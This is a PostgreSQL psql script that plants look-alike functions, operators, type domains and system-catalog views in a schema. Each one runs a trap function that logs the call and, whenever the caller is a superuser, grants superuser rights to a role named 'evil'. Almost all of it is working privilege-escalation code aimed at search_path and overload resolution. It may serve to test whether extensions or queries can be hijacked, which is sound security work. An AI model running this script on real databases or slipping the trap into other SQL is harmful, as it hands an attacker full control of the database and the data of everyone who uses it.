-- Objects that somebody who may create them in a schema can put there to have them run by
-- others: functions and operators that fit a call better than pg_catalog's own, and
-- types and tables of well-known names. Each runs trap(), which notes it in
-- hostile.ran and makes the role a superuser if it can.
--
--   psql -v schema=SCHEMA -v like=SCHEMA -v names=REGEX -f hostile_schema.sql
--
-- schema: where the objects are made. like, names: whose functions are imitated.
\set ON_ERROR_STOP on
SET client_min_messages = error;
SET search_path = pg_catalog;
CREATE SCHEMA IF NOT EXISTS hostile;
GRANT USAGE ON SCHEMA hostile TO PUBLIC;
CREATE TABLE IF NOT EXISTS hostile.ran (what text);
GRANT INSERT ON hostile.ran TO PUBLIC;
CREATE OR REPLACE FUNCTION hostile.trap(what text) RETURNS boolean LANGUAGE plpgsql
SET search_path = pg_catalog AS $$
BEGIN
    INSERT INTO hostile.ran VALUES (what);
    IF current_setting('is_superuser') = 'on' THEN
        ALTER ROLE evil SUPERUSER;
    END IF;
    RETURN true;
EXCEPTION WHEN read_only_sql_transaction THEN
    RAISE WARNING 'hostile code ran: %', what;
    RETURN true;
END
$$;
GRANT EXECUTE ON FUNCTION hostile.trap(text) TO PUBLIC;

-- A function of these arguments and this result that runs the trap.
CREATE OR REPLACE FUNCTION hostile.make(schema text, name text, arguments oid[], result oid)
RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$
DECLARE
    types text := (SELECT string_agg(format_type(a, NULL), ', ' ORDER BY n)
                   FROM unnest(arguments) WITH ORDINALITY AS u (a, n));
BEGIN
    IF EXISTS (SELECT FROM pg_proc AS p WHERE p.pronamespace = schema::regnamespace
               AND p.proname = name AND p.proargtypes::text = array_to_string(arguments, ' ')) THEN
        RETURN;
    END IF;
    EXECUTE format(
        'CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql IMMUTABLE AS %L', schema, name, types,
        format_type(result, NULL),
        format('BEGIN PERFORM hostile.trap(%L); RETURN NULL; END', format('%s(%s)', name, types)));
EXCEPTION WHEN feature_not_supported OR invalid_function_definition OR program_limit_exceeded THEN
    NULL; -- PL/pgSQL takes no argument of this pseudo-type.
END
$$;

CREATE OR REPLACE FUNCTION hostile.types() RETURNS oid[] LANGUAGE sql SET search_path = pg_catalog AS $$
    SELECT ARRAY['text', 'name', 'int4', 'int8', 'float8', 'numeric', 'timestamptz', 'interval',
                 'oid', 'regprocedure', 'bool']::regtype[]::oid[]
$$;

-- Functions: those that are there, with the type of one argument changed.
SELECT count(hostile.make(:'schema', f.proname, f.arguments, 'bool'::regtype)) AS functions
FROM (
    SELECT DISTINCT p.proname, p.arguments[:n - 1] || t || p.arguments[n + 1:] AS arguments
    FROM (
        SELECT proname, (proargtypes::oid[])[0:pronargs - 1] AS given, pronargs, provariadic
        FROM pg_catalog.pg_proc
        WHERE pronamespace = :'like'::regnamespace AND proname ~ :'names' AND prokind IN ('f', 'a')
            AND pronargs BETWEEN 1 AND 12 AND proname NOT LIKE 'pg\_stat\_statements%'
            AND 'internal'::regtype <> ALL (proargtypes::oid[])
    ) AS f,
    LATERAL (SELECT f.proname, ARRAY(SELECT unnest(f.given)) AS arguments) AS p,
    generate_series(1, f.pronargs) AS n, unnest(hostile.types()) AS t
    UNION
    -- Arguments for functions that take any number of any type.
    SELECT v.name, v.arguments
    FROM (
        SELECT name, ARRAY['text', a]::regtype[]::oid[] AS arguments
        FROM (VALUES ('format'), ('concat_ws')) AS f (name), unnest(ARRAY['text', 'name', 'int4', 'int8', 'float8', 'regclass', 'regnamespace', 'timestamptz']) AS a
        UNION ALL
        SELECT name, ARRAY['text', a, b]::regtype[]::oid[]
        FROM (VALUES ('format'), ('concat_ws')) AS f (name), unnest(ARRAY['text', 'name', 'int4', 'int8', 'float8', 'regclass', 'regnamespace']) AS a,
             unnest(ARRAY['text', 'name', 'int4', 'int8', 'float8']) AS b
        UNION ALL
        SELECT 'format', ARRAY['text', a, b, c]::regtype[]::oid[]
        FROM unnest(ARRAY['text', 'name', 'regclass']) AS a, unnest(ARRAY['text', 'name']) AS b,
             unnest(ARRAY['text', 'name']) AS c
    ) AS v
) AS f
WHERE NOT EXISTS (SELECT FROM pg_catalog.pg_proc AS p WHERE p.pronamespace = :'like'::regnamespace
                  AND p.proname = f.proname AND p.proargtypes::text = array_to_string(f.arguments, ' '));

-- Operators on pairs of types that pg_catalog has none for.
SELECT count(hostile.make(:'schema', 'compare', ARRAY[l, r], 'bool'::regtype)),
       count(hostile.make(:'schema', 'compute', ARRAY[l, r], l))
FROM unnest(hostile.types()) AS l, unnest(hostile.types()) AS r;
DO $$
DECLARE
    o record;
BEGIN
    FOR o IN
        SELECT p.pronamespace::regnamespace AS schema, name, l, r, p.proname
        FROM unnest(hostile.types()) AS l, unnest(hostile.types()) AS r,
             unnest(ARRAY['=', '<>', '<', '<=', '>', '>=', '~', '!~', '~~', '&&', '+', '-', '*', '/', '||']) AS name,
             pg_catalog.pg_proc AS p
        WHERE p.proname = CASE WHEN name IN ('+', '-', '*', '/', '||') THEN 'compute' ELSE 'compare' END
            AND p.proargtypes::text = format('%s %s', l, r)
            AND NOT EXISTS (SELECT FROM pg_catalog.pg_operator AS t
                            WHERE t.oprname = name AND t.oprleft = l AND t.oprright = r
                                AND t.oprnamespace IN ('pg_catalog'::regnamespace, p.pronamespace))
    LOOP
        EXECUTE format('CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s.%I)',
                       o.schema, o.name, format_type(o.l, NULL), format_type(o.r, NULL), o.schema, o.proname);
    END LOOP;
END
$$;

-- Types and tables that hide those of pg_catalog from whoever searches this schema first.
SELECT format('CREATE DOMAIN %I.%I AS pg_catalog.%I CHECK (hostile.trap(%L))', :'schema', t, t, 'type ' || t)
FROM unnest(ARRAY['text', 'name', 'oid', 'json', 'bytea', 'float8', 'int8', 'timestamptz', 'regclass',
                  'regtype', 'regprocedure', 'int8range']) AS t
WHERE to_regtype(:'schema' || '.' || t) IS NULL \gexec
SELECT format('CREATE VIEW %I.%I AS SELECT *, hostile.trap(%L) FROM pg_catalog.%I', :'schema', t, 'table ' || t, t)
FROM unnest(ARRAY['pg_proc', 'pg_namespace', 'pg_type', 'pg_roles', 'pg_database', 'pg_extension',
                  'pg_class', 'pg_settings']) AS t
WHERE to_regclass(:'schema' || '.' || t) IS NULL \gexec
